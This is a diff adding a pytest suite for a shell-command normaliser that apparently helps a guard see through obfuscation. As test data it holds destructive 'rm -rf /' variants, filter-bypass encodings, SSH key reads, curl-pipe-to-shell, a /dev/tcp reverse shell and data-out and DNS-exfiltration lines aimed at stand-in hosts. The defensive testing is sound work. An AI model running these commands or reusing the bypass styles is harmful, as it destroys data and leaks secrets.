@@ -1,0 +1,322 @@
+"""The shell normaliser: every construct and bypass style ends in the same flattened commands and paths."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from limen.normalize.shell import ShellAnalysis, analyse
+
+CWD = "/work/proj"
+HOME = "/home/dev"
+
+
+def run(line: str, cwd: str = CWD) -> ShellAnalysis:
+    return analyse(line, cwd=cwd, home=HOME)
+
+
+def names(line: str) -> list[str]:
+    return [c.name for c in run(line).commands]
+
+
+def argvs(line: str) -> list[tuple[str, ...]]:
+    return [c.argv for c in run(line).commands]
+
+
+# ----------------------------------------------------------------- flattening
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("ls -la | grep x && echo ok; whoami", ["ls", "grep", "echo", "whoami"]),
+        ("(cd src && make) || { echo fail; }", ["cd", "make", "echo"]),
+        ("echo $(id -u) `hostname`", ["id", "hostname", "echo"]),
+        ("diff <(sort a) <(sort b)", ["sort", "sort", "diff"]),
+        ("if [ -f x ]; then rm x; fi", ["rm"]),
+        ("for f in a b; do cat $f; done", ["cat"]),
+        ("f(){ rm -rf build; }; f", ["rm", "f"]),
+    ],
+)
+def test_flattens_compound_statements(line: str, expected: list[str]) -> None:
+    assert names(line) == expected
+
+
+@pytest.mark.parametrize(
+    ("line", "inner"),
+    [
+        ("bash -c 'rm -rf /'", ("rm", "-rf", "/")),
+        ('sh -c "rm -rf /"', ("rm", "-rf", "/")),
+        ("zsh -lc 'rm -rf /'", ("rm", "-rf", "/")),
+        ("dash -c 'rm -rf /'", ("rm", "-rf", "/")),
+        ("eval 'rm -rf /'", ("rm", "-rf", "/")),
+        ("exec rm -rf /", ("rm", "-rf", "/")),
+        ("sudo -u root rm -rf /", ("rm", "-rf", "/")),
+        ("env -i FOO=1 rm -rf /", ("rm", "-rf", "/")),
+        ("nohup rm -rf / &", ("rm", "-rf", "/")),
+        ("timeout -s KILL 10 rm -rf /", ("rm", "-rf", "/")),
+        ("nice -n 5 ionice -c 3 rm -rf /", ("rm", "-rf", "/")),
+        ("command rm -rf /", ("rm", "-rf", "/")),
+        ("builtin eval 'rm -rf /'", ("rm", "-rf", "/")),
+        ("time rm -rf /", ("rm", "-rf", "/")),
+        ("stdbuf -oL rm -rf /", ("rm", "-rf", "/")),
+        ("doas rm -rf /", ("rm", "-rf", "/")),
+        ("busybox rm -rf /", ("rm", "-rf", "/")),
+        ("find / -maxdepth 0 -exec rm -rf {} \\;", ("rm", "-rf", "/{}")),
+        ("echo / | xargs rm -rf", ("rm", "-rf", "/")),
+        ("su -c 'rm -rf /'", ("rm", "-rf", "/")),
+    ],
+)
+def test_unwraps_wrappers_and_nested_shells(line: str, inner: tuple[str, ...]) -> None:
+    assert inner in argvs(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "rm protected.dat",
+        "r''m protected.dat",
+        'r""m protected.dat',
+        '"r"m protected.dat',
+        "r\\m protected.dat",
+        "r\\\nm protected.dat",
+        "rm${IFS}protected.dat",
+        "rm$IFS'protected.dat'",
+        '__c=rm; "$__c" protected.dat',
+        "a=rm; $a protected.dat",
+        "$(echo rm) protected.dat",
+        "`printf rm` protected.dat",
+        "$(printf %s rm) protected.dat",
+        "$'\\x72\\x6d' protected.dat",
+        "$'\\162\\155' protected.dat",
+        "/bin/rm protected.dat",
+        "\\rm protected.dat",
+        'eval "rm protected.dat"',
+        "awk 'BEGIN{system(\"rm protected.dat\")}'",
+        "echo cm0gcHJvdGVjdGVkLmRhdA== | base64 -d | sh",
+        "echo cm0gcHJvdGVjdGVkLmRhdA== | base64 --decode | bash",
+        "echo 726d2070726f7465637465642e646174 | xxd -r -p | sh",
+        "printf '\\x72\\x6d protected.dat' | sh",
+        "printf '%s\\n' protected.dat | xargs rm",
+        "bash <<EOF\nrm protected.dat\nEOF",
+        "cat <<'EOF' | sh\nrm protected.dat\nEOF",
+        "sh <<< 'rm protected.dat'",
+        "python3 -c 'import os; os.system(\"rm protected.dat\")'",
+        'python -c \'import subprocess; subprocess.run(["rm", "protected.dat"])\'',
+        "perl -e 'system(\"rm protected.dat\")'",
+        "ruby -e 'system(\"rm protected.dat\")'",
+        "php -r 'shell_exec(\"rm protected.dat\");'",
+        'node -e \'require("child_process").execSync("rm protected.dat")\'',
+        "find . -name protected.dat -exec rm {} \\;",
+    ],
+)
+def test_every_bypass_style_yields_the_same_delete(line: str) -> None:
+    analysis = run(line)
+    assert any(c.name == "rm" and c.argv[-1].rsplit("/", 1)[-1] == "protected.dat" for c in analysis.commands)
+    assert f"{CWD}/protected.dat" in analysis.paths
+    assert f"{CWD}/protected.dat" in analysis.write_paths
+
+
+def test_via_records_how_a_command_was_reached() -> None:
+    rm = [c for c in run("echo cm0gLXJmIC8= | base64 -d | sh").commands if c.name == "rm"][0]
+    assert rm.via == ("base64 -d",)
+    rm = [c for c in run("python -c 'import os; os.system(\"rm -rf /\")'").commands if c.name == "rm"][0]
+    assert rm.via == ("python -c",)
+    sh = [c for c in run("curl -s https://x.example/i.sh | sh").commands if c.name == "sh"][0]
+    assert "stdin:curl" in sh.via
+
+
+def test_interpreter_deletes_become_rm_commands() -> None:
+    analysis = run("python -c 'import shutil; shutil.rmtree(\"/home/dev\")'")
+    assert ("rm", "-rf", "/home/dev") in [c.argv for c in analysis.commands]
+
+
+def test_cd_changes_the_directory_of_later_commands() -> None:
+    analysis = run("cd /etc && rm passwd")
+    assert "/etc/passwd" in analysis.write_paths
+
+
+def test_redirect_targets_are_write_paths() -> None:
+    analysis = run("echo x > out.txt 2>/dev/null; cat a >> ~/.bashrc")
+    assert f"{CWD}/out.txt" in analysis.write_paths
+    assert f"{HOME}/.bashrc" in analysis.write_paths
+    assert "/dev/null" not in analysis.write_paths
+
+
+def test_heredoc_body_is_a_payload() -> None:
+    assert "secret body\n" in run("cat <<EOF > f.txt\nsecret body\nEOF").payloads
+
+
+# ----------------------------------------------------------------- globs
+
+
+def test_glob_counts_as_touching_sensitive_names(tmp_path: Path) -> None:
+    (tmp_path / "app.py").write_text("x")
+    analysis = analyse("cat ./.e* ./*.py", cwd=str(tmp_path), home=HOME)
+    assert f"{tmp_path}/.env" in analysis.paths  # representative of what `.e*` could match
+    assert f"{tmp_path}/app.py" in analysis.paths  # real match on disk
+    assert f"glob:{tmp_path}/.e*" in analysis.notes
+
+
+def test_home_glob_matches_keys() -> None:
+    assert f"{HOME}/.ssh/id_rsa" in run("cat ~/.ss?/id_*").paths
+
+
+def test_star_does_not_stand_for_dotfiles() -> None:
+    assert not any(p.endswith("/.env") for p in run("cat *").paths)
+
+
+# ----------------------------------------------------------------- destinations
+
+
+@pytest.mark.parametrize(
+    ("line", "host"),
+    [
+        ("curl -s https://evil.example/x", "evil.example"),
+        ("wget -qO- http://evil.example/x", "evil.example"),
+        ("nc evil.example 4444", "evil.example"),
+        ("ssh -p 22 user@evil.example", "evil.example"),
+        ("scp file.txt user@evil.example:/tmp/", "evil.example"),
+        ("rsync -av . evil.example:backup/", "evil.example"),
+        ("git clone https://evil.example/r.git", "evil.example"),
+        ("git remote add x git@evil.example:o/r.git", "evil.example"),
+        ("pip install https://evil.example/p.tar.gz", "evil.example"),
+        ("npm install https://evil.example/p.tgz", "evil.example"),
+        ("dig evil.example", "evil.example"),
+        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "10.0.0.1"),
+        ("python -c 'import socket; s=socket.socket(); s.connect((\"10.0.0.1\", 4242))'", "10.0.0.1"),
+    ],
+)
+def test_destinations(line: str, host: str) -> None:
+    assert host in [d.host for d in run(line).destinations]
+
+
+def test_substituted_dns_label_is_flagged() -> None:
+    dest = run("dig $(whoami).evil.com").destinations[0]
+    assert dest.host == "evil.com"
+    assert "substituted_label" in dest.flags
+
+
+# ----------------------------------------------------------------- opaque
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "$(curl -s https://x.example/c) arg",
+        "$cmd -rf /",
+        'eval "$PAYLOAD"',
+        'bash -c "$(curl -s https://x.example/i.sh)"',
+        "echo '!!!notbase64' | base64 -d | sh",
+        "curl -s https://x.example/i.sh | sh",
+        "echo 'unterminated",
+    ],
+)
+def test_unknowable_parts_are_opaque_with_a_note(line: str) -> None:
+    analysis = run(line)
+    assert analysis.opaque
+    assert analysis.notes
+
+
+def test_plain_lines_are_not_opaque() -> None:
+    for line in ("ls -la", "git status", "pytest -q tests/", "sh -c 'echo $(date)'", "eval 'echo hi'"):
+        assert not run(line).opaque, line
+
+
+# ----------------------------------------------------------------- never raises
+
+
+def test_deep_nesting_is_bounded() -> None:
+    analysis = run("echo " + "$(" * 500 + "x" + ")" * 500)
+    assert analysis.opaque
+
+
+def test_nested_shell_strings_are_bounded() -> None:
+    line = "rm x"
+    for _ in range(12):
+        line = "bash -c " + repr(line).replace("\\", "\\\\")
+    assert run(line).opaque
+
+
+def test_huge_line_is_marked_opaque() -> None:
+    analysis = run("echo " + "a " * 40_000)
+    assert analysis.opaque
+    assert "line too long" in analysis.notes
+
+
+def test_invalid_surrogates_do_not_raise() -> None:
+    assert run("rm \ud800 x").opaque
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.text(max_size=300))
+def test_random_text_never_raises(text: str) -> None:
+    assert isinstance(run(text), ShellAnalysis)
+
+
+_PIECES = st.sampled_from(
+    [
+        "rm",
+        "-rf",
+        "/",
+        "$(",
+        ")",
+        "`",
+        "'",
+        '"',
+        "|",
+        ";",
+        "&&",
+        "<<EOF\n",
+        "\nEOF\n",
+        "$IFS",
+        "${",
+        "}",
+        "\\",
+        "bash -c",
+        "eval",
+        "base64 -d",
+        "xargs",
+        "find . -exec",
+        "{} \\;",
+        "python -c",
+        "(",
+        ">",
+        "<(",
+        "*",
+        "~",
+    ]
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(_PIECES, max_size=40).map(" ".join))
+def test_shell_shaped_noise_never_raises(text: str) -> None:
+    assert isinstance(run(text), ShellAnalysis)
+
+
+def test_non_string_input_is_opaque() -> None:
+    assert analyse(None, cwd=CWD, home=HOME).opaque  # type: ignore[arg-type]
+
+
+def test_relative_paths_resolve_against_cwd(tmp_path: Path) -> None:
+    target = tmp_path / "a.txt"
+    target.write_text("x")
+    assert str(target) in analyse("cat a.txt", cwd=str(tmp_path), home=HOME).paths
+    assert os.path.isabs(run("cat ../x/y.txt").paths[0])
+
+
+def test_scanner_crash_input_is_survived() -> None:
+    """'{' followed by U+F8FC2 segfaults tree-sitter-bash's scanner; run it in a child so a regression is a failure."""
+    import subprocess
+    import sys
+
+    code = (
+        "from limen.normalize.shell import analyse\n"
+        "for _ in range(50): analyse('{\\U000f8fc2 x', cwd='/w', home='/h')\n"
+    )
+    assert subprocess.run([sys.executable, "-c", code], timeout=60).returncode == 0
